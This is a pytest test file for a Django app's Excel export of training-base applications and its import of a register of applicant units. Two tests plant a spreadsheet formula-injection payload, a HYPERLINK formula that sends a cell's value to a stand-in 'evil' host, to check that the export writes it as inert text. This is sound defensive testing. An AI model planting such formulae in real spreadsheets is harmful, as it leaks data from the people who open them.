"""Excel: the city's summary export of a batch and the admin's import of the unit register."""

import io
from datetime import datetime
from urllib.parse import quote
from zoneinfo import ZoneInfo

import pytest
import tablib
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from applications.enums import ApplicationState
from applications.models import ApplicantUnit, Application
from applications.resources import (
    INDICATOR_FIELDS,
    UNIT_COLUMNS,
    ApplicantUnitResource,
    ApplicationExportResource,
)
from shaoxing_bases.accounts.enums import Role
from tests.applications.factories import (
    ApplicantUnitFactory,
    ApplicationFactory,
    BatchFactory,
    complete_application,
    make_credit_code,
)
from tests.factories import region

SHANGHAI = ZoneInfo("Asia/Shanghai")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Application fields that are bookkeeping, not something the unit declares about itself.
NOT_INDICATORS = {
    "id",
    "batch",
    "unit",
    "state",
    "created_by",
    "created_at",
    "updated_at",
    "submitted_at",
    "first_submitted_at",
    "county_comment",
}


def export_url(batch) -> str:
    return reverse("applications:batch_export", args=[batch.pk])


def read_sheet(response) -> list[list]:
    workbook = load_workbook(io.BytesIO(response.content))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


# --- the summary export -------------------------------------------------------------------------


def test_export_covers_every_indicator_field_of_the_application():
    names = {field.name for field in Application._meta.concrete_fields}
    assert names - NOT_INDICATORS == set(INDICATOR_FIELDS)


@pytest.mark.django_db
def test_export_headers_are_chinese_and_complete():
    headers = ApplicationExportResource().get_export_headers()
    for expected in (
        "单位名称",
        "统一社会信用代码",
        "单位类型",
        "所在区县",
        "联系电话",
        "所属领域",
        "企业规模（按国统字〔2017〕213号认定）",
        "申报状态",
        "提交时间",
        "上年度职业培训人数",
        "已建立培训管理制度",
        "特色专业（职业、工种）数量",
        "合作企业数量",
        "职工培训经费连续足额提取使用年数",
        "自动核验：符合项数",
        "自动核验：不符合项数",
        "自动核验：待判断项数",
    ):
        assert expected in headers
    assert len(headers) == len(set(headers))
    assert all(not header.isascii() for header in headers)


@pytest.mark.parametrize("role", [Role.CITY_HRSS, Role.CITY_FINANCE, Role.ADMIN])
def test_batch_export_downloads_the_handed_in_applications(client, make_user, role):
    batch = BatchFactory(year=2026)
    for state in (ApplicationState.SUBMITTED, ApplicationState.RECOMMENDED, ApplicationState.RETURNED):
        ApplicationFactory(batch=batch, state=state)
    ApplicationFactory(batch=batch)  # draft: private to the unit
    ApplicationFactory(batch=batch, state=ApplicationState.WITHDRAWN)
    ApplicationFactory(state=ApplicationState.SUBMITTED)  # another batch
    client.force_login(make_user(role))

    response = client.get(export_url(batch))

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_TYPE
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"filename*=utf-8''{quote('2026年度实训基地申报汇总.xlsx')}" in disposition
    rows = read_sheet(response)
    assert rows[0] == ApplicationExportResource().get_export_headers()
    assert len(rows) == 1 + 3


def test_batch_export_row_values(client, make_user):
    batch = BatchFactory(year=2026)
    application = complete_application(ApplicationFactory(batch=batch))
    Application.objects.filter(pk=application.pk).update(
        state=ApplicationState.SUBMITTED, submitted_at=datetime(2026, 9, 1, 14, 5, tzinfo=SHANGHAI)
    )
    enterprise = complete_application(
        ApplicationFactory(batch=batch, unit=ApplicantUnitFactory(unit_type="enterprise", division="330681"))
    )
    Application.objects.filter(pk=enterprise.pk).update(state=ApplicationState.RECOMMENDED)
    client.force_login(make_user(Role.CITY_HRSS))

    rows = read_sheet(client.get(export_url(batch)))
    headers = rows[0]
    by_unit = {row[headers.index("单位名称")]: dict(zip(headers, row, strict=True)) for row in rows[1:]}

    college = by_unit[application.unit.name]
    assert college["统一社会信用代码"] == application.unit.credit_code
    assert college["单位类型"] == "职技院校"
    assert college["所在区县"] == "越城区"
    assert college["联系电话"] == "13800000000"  # the city is responsible staff: full number
    assert college["申报状态"] == "已提交（待区县初审）"
    assert college["提交时间"] == "2026-09-01 14:05"
    assert college["上年度职业培训人数"] == 2000
    assert college["已建立培训管理制度"] == "是"
    assert college["特色专业（职业、工种）数量"] == 3
    assert college["合作企业数量"] == 20
    assert college["职工培训经费连续足额提取使用年数"] in ("", None)
    assert college["自动核验：不符合项数"] == 0
    assert college["自动核验：符合项数"] + college["自动核验：待判断项数"] > 0

    company = by_unit[enterprise.unit.name]
    assert company["单位类型"] == "企业"
    assert company["所在区县"] == "诸暨市"
    assert company["所属领域"] == "先进制造业"
    assert company["企业规模（按国统字〔2017〕213号认定）"] == "大型"  # derived from its figures
    assert company["申报状态"] == "区县已推荐"
    assert company["职工培训经费连续足额提取使用年数"] == 3
    assert company["自动核验：不符合项数"] == 0


def test_batch_export_lists_failing_criteria(client, make_user):
    batch = BatchFactory(year=2026)
    application = ApplicationFactory(batch=batch, state=ApplicationState.SUBMITTED)
    Application.objects.filter(pk=application.pk).update(annual_trainees=1499)
    client.force_login(make_user(Role.CITY_HRSS))
    rows = read_sheet(client.get(export_url(batch)))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["自动核验：不符合项数"] > 0
    assert "三（一）2" in row["自动核验不符合项"]


@pytest.mark.parametrize("rows", [1, 5])
def test_batch_export_runs_a_fixed_number_of_queries(client, make_user, django_assert_num_queries, rows):
    batch = BatchFactory()
    for index in range(rows):
        unit_type = "enterprise" if index % 2 else "college"
        ApplicationFactory(
            batch=batch, unit=ApplicantUnitFactory(unit_type=unit_type), state=ApplicationState.SUBMITTED
        )
    client.force_login(make_user(Role.CITY_HRSS))
    client.get(export_url(batch))  # warm-up: the first request stamps the idle timer
    # session, user, batch, page count, the row count (background from 1,000 rows), applications
    # (+unit, region, batch, the partners counted), specialties, fund years
    with django_assert_num_queries(8):
        response = client.get(export_url(batch))
    assert len(read_sheet(response)) == 1 + rows


def test_batch_export_of_a_missing_batch_is_404(client, make_user):
    client.force_login(make_user(Role.CITY_HRSS))
    assert client.get(reverse("applications:batch_export", args=[999_999])).status_code == 404


@pytest.mark.parametrize("role", [Role.COUNTY_HRSS, Role.COUNTY_FINANCE, Role.APPLICANT, Role.EXPERT])
def test_batch_export_is_refused_outside_the_city(client, make_user, role):
    batch = BatchFactory()
    ApplicationFactory(batch=batch, state=ApplicationState.SUBMITTED)
    client.force_login(make_user(role))
    assert client.get(export_url(batch)).status_code == 403


# --- the unit register: import ------------------------------------------------------------------

HEADERS = list(UNIT_COLUMNS.values())


def unit_row(**values) -> list:
    row = {
        "统一社会信用代码": make_credit_code(division="330603"),
        "单位名称": "绍兴柯桥导入测试有限公司",
        "单位类型": "企业",
        "所在区县": "",
        "通讯地址": "浙江省绍兴市柯桥区华舍街道1号",
        "法定代表人": "吴总",
        "联系人": "郑经理",
        "联系电话": "0575-84001234",
        "电子邮箱": "import@example.cn",
    }
    row.update(values)
    return [row[header] for header in HEADERS]


def xlsx_bytes(*rows) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADERS)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def dataset_of(*rows) -> tablib.Dataset:
    return tablib.Dataset().load(io.BytesIO(xlsx_bytes(*rows)), format="xlsx")


@pytest.mark.django_db
def test_import_of_two_rows_with_one_bad_row_reports_it_in_chinese():
    good = unit_row()
    bad_code = make_credit_code(division="330602")
    bad = unit_row(
        **{"统一社会信用代码": bad_code[:17] + ("0" if bad_code[17] != "0" else "1"), "单位名称": "坏行"}
    )

    result = ApplicantUnitResource().import_data(dataset_of(good, bad), dry_run=True)

    assert result.has_validation_errors()
    (invalid,) = result.invalid_rows
    assert invalid.number == 2
    assert "统一社会信用代码" in invalid.field_specific_errors
    assert "校验位错误" in invalid.field_specific_errors["统一社会信用代码"][0]
    assert not ApplicantUnit.objects.exists()


@pytest.mark.django_db
def test_import_creates_units_with_labels_mapped_and_county_inferred():
    enterprise = unit_row(**{"统一社会信用代码": make_credit_code(division="330681")})
    college = unit_row(
        **{
            "统一社会信用代码": make_credit_code(division="330600", prefix="12"),
            "单位名称": "绍兴市本级测试学院",
            "单位类型": "职技院校",
            "所在区县": "越城区",
            "联系电话": 13812348000,  # Excel keeps numbers as numbers
        }
    )

    result = ApplicantUnitResource().import_data(dataset_of(enterprise, college), dry_run=False)

    assert not result.has_errors()
    assert not result.has_validation_errors()
    company = ApplicantUnit.objects.get(credit_code=enterprise[0])
    assert (company.unit_type, company.region.name) == ("enterprise", "诸暨市")
    school = ApplicantUnit.objects.get(credit_code=college[0])
    assert (school.unit_type, school.region.name) == ("college", "越城区")
    assert school.contact_phone == "13812348000"


@pytest.mark.django_db
def test_import_updates_an_existing_unit_by_credit_code():
    unit = ApplicantUnitFactory(unit_type="enterprise", division="330603", name="旧名称")
    row = unit_row(**{"统一社会信用代码": unit.credit_code.lower(), "单位名称": "新名称"})
    result = ApplicantUnitResource().import_data(dataset_of(row), dry_run=False)
    assert not result.has_validation_errors()
    unit.refresh_from_db()
    assert unit.name == "新名称"
    assert ApplicantUnit.objects.count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("values", "column", "message"),
    [
        ({"所在区县": "嵊州市"}, "所在区县", "与统一社会信用代码（柯桥区）不一致"),
        ({"所在区县": "杭州市"}, "所在区县", "未找到区县“杭州市”"),
        ({"单位类型": "学校"}, "单位类型", "不是有效的单位类型"),
        ({"单位名称": ""}, "单位名称", "不能为空"),
        ({"电子邮箱": "not-an-email"}, "电子邮箱", "有效的 Email 地址"),
        ({"联系电话": "123"}, "联系电话", "请输入正确的手机号码"),
        (
            {"统一社会信用代码": make_credit_code(division="330100"), "所在区县": ""},
            "所在区县",
            "请填写所在区县",
        ),
    ],
)
def test_import_row_errors_name_the_chinese_column(values, column, message):
    result = ApplicantUnitResource().import_data(dataset_of(unit_row(**values)), dry_run=True)
    (invalid,) = result.invalid_rows
    assert message in " ".join(invalid.field_specific_errors[column])


@pytest.mark.django_db
def test_admin_import_page_shows_row_errors_in_chinese(client, make_user):
    admin = make_user(Role.ADMIN, is_staff=True, is_superuser=True)
    client.force_login(admin)
    bad_code = make_credit_code(division="330602")
    upload = io.BytesIO(
        xlsx_bytes(
            unit_row(),
            unit_row(**{"统一社会信用代码": bad_code[:17] + ("0" if bad_code[17] != "0" else "1")}),
        )
    )
    upload.name = "单位名录.xlsx"

    response = client.post(
        reverse("admin:applications_applicantunit_import"),
        {"resource": "0", "format": "0", "import_file": upload},
    )

    body = response.content.decode()
    assert response.status_code == 200
    assert "统一社会信用代码" in body
    assert "校验位错误" in body
    assert not ApplicantUnit.objects.exists()


@pytest.mark.django_db
def test_unit_export_uses_labels_that_import_back():
    unit = ApplicantUnitFactory(unit_type="enterprise", division="330604")
    dataset = ApplicantUnitResource().export()
    assert dataset.headers == HEADERS
    row = dict(zip(dataset.headers, dataset[0], strict=True))
    assert (row["单位类型"], row["所在区县"]) == ("企业", "上虞区")

    ApplicantUnit.objects.all().delete()
    result = ApplicantUnitResource().import_data(dataset, dry_run=False)
    assert not result.has_validation_errors()
    imported = ApplicantUnit.objects.get(credit_code=unit.credit_code)
    assert (imported.region, imported.unit_type) == (region("330604"), "enterprise")


def test_batch_export_escapes_formulae_typed_by_applicants(client, make_user):
    batch = BatchFactory(year=2026)
    unit = ApplicantUnitFactory(name='=HYPERLINK("http://evil.example/?x="&B2,"点击")')
    application = complete_application(ApplicationFactory(batch=batch, unit=unit))
    Application.objects.filter(pk=application.pk).update(
        state=ApplicationState.SUBMITTED, organisation_description="=1+1"
    )
    client.force_login(make_user(Role.CITY_HRSS))
    workbook = load_workbook(io.BytesIO(client.get(export_url(batch)).content))
    cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(str(cell.value).endswith('"点击")') for cell in cells)


def test_batch_export_leaves_blank_what_the_unit_types_form_does_not_ask(client, make_user):
    batch = BatchFactory(year=2026)
    enterprise = complete_application(
        ApplicationFactory(batch=batch, unit=ApplicantUnitFactory(unit_type="enterprise"))
    )
    college = complete_application(ApplicationFactory(batch=batch))
    # Values left over in fields the form never showed (e.g. typed before a unit type was corrected).
    Application.objects.filter(pk=enterprise.pk).update(
        state=ApplicationState.SUBMITTED, teacher_plan="旧规划", students=300
    )
    Application.objects.filter(pk=college.pk).update(state=ApplicationState.SUBMITTED, venue_capacity=99)
    client.force_login(make_user(Role.CITY_HRSS))
    rows = read_sheet(client.get(export_url(batch)))
    headers = rows[0]
    by_unit = {row[headers.index("单位名称")]: dict(zip(headers, row, strict=True)) for row in rows[1:]}
    company, school = by_unit[enterprise.unit.name], by_unit[college.unit.name]
    assert company["师资培养规划和实施方案"] in ("", None)
    assert company["在校（在训）学员人数"] in ("", None)
    assert company["专兼职教师人数"] is not None
    assert school["可同时开展培训评价的人数"] in ("", None)
    assert school["师资培养规划和实施方案"]


def test_batch_export_has_the_first_submission_time(client, make_user):
    batch = BatchFactory(year=2026)
    application = ApplicationFactory(batch=batch, state=ApplicationState.SUBMITTED)
    Application.objects.filter(pk=application.pk).update(
        first_submitted_at=datetime(2026, 9, 1, 9, 0, tzinfo=SHANGHAI),
        submitted_at=datetime(2026, 9, 3, 10, 30, tzinfo=SHANGHAI),
    )
    client.force_login(make_user(Role.CITY_HRSS))
    rows = read_sheet(client.get(export_url(batch)))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["首次提交时间"], row["提交时间"]) == ("2026-09-01 09:00", "2026-09-03 10:30")


# --- what applicants type never breaks or changes the sheet ---------------------------------------


def test_batch_export_survives_a_control_character_in_a_units_address(client, make_user):
    """A bell character stored in one unit's address made the city's whole export answer 500."""
    batch = BatchFactory(year=2026)
    unit = ApplicantUnitFactory(address="绍兴市\x07越城区\x1b解放路1号")
    ApplicationFactory(batch=batch, unit=unit, state=ApplicationState.SUBMITTED)
    client.force_login(make_user(Role.CITY_HRSS))
    response = client.get(export_url(batch))
    assert response.status_code == 200
    rows = read_sheet(response)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["通讯地址"] == "绍兴市\ufffd越城区\ufffd解放路1号"


def test_export_keeps_what_was_typed_as_text_and_numbers_as_numbers():
    from applications.spreadsheets import dataset_to_xlsx

    dataset = tablib.Dataset(headers=["名称", "人数", "比例", "备注"])
    dataset.append(["=1+1", 2000, 0.4, None])
    dataset.append(["#N/A", 0, 1.5, "+86 138"])
    before = [list(row) for row in dataset]
    workbook = load_workbook(io.BytesIO(dataset_to_xlsx(dataset, title="汇总/2026")))
    sheet = workbook.active
    assert sheet.title == "汇总-2026"  # characters a sheet name cannot hold are replaced
    cells = {cell.coordinate: cell for row in sheet.iter_rows() for cell in row}
    assert (cells["A2"].value, cells["A2"].data_type) == ("=1+1", "s")  # verbatim, never evaluated
    assert (cells["A3"].value, cells["A3"].data_type) == ("#N/A", "s")  # not an error cell
    assert (cells["B2"].value, cells["C2"].value, cells["B3"].value) == (2000, 0.4, 0)
    assert cells["D2"].value is None  # empty, not the text "None"
    assert cells["D3"].value == "+86 138"
    assert [list(row) for row in dataset] == before  # the caller's dataset is untouched


def test_admin_unit_export_is_not_mangled(client, make_user):
    """The admin export goes through the same format: formula-like names verbatim as text, empty
    cells empty (import-export's own escaping wrote "None" and cut the leading "=")."""
    unit = ApplicantUnitFactory(name='=HYPERLINK("http://evil.example")', email="")
    client.force_login(make_user(Role.ADMIN, is_staff=True, is_superuser=True))
    fields = {f"applicantunitresource_{name}": "on" for name in UNIT_COLUMNS}
    response = client.post(
        reverse("admin:applications_applicantunit_export"), {"resource": "0", "format": "0", **fields}
    )
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_TYPE
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [list(row) for row in sheet.iter_rows()]
    headers = [cell.value for cell in rows[0]]
    row = dict(zip(headers, rows[1], strict=True))
    assert (row["单位名称"].value, row["单位名称"].data_type) == (unit.name, "s")
    assert row["电子邮箱"].value in (None, "")
